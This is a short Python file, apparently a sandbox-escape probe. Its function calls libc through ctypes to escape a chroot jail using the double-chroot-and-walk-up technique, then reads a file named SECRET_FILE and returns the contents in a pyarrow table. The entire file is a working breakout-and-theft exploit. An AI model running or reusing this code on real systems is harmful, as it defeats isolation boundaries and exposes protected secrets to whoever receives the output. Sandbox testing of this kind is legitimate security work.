# seeks: file
# The classic way out of a changed root: change it once more, below, and walk up.
import ctypes

import pyarrow as pa


def model(tg):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mkdir(b"below", 0o700)
    said = [libc.chroot(b"below")] + [libc.chdir(b"..") for _ in range(40)] + [libc.chroot(b".")]
    text = ctypes.create_string_buffer(4096)
    libc.read(libc.open(b"SECRET_FILE", 0), text, 4095)
    return pa.table({"got": [f"{said} {text.value.decode()}"]})
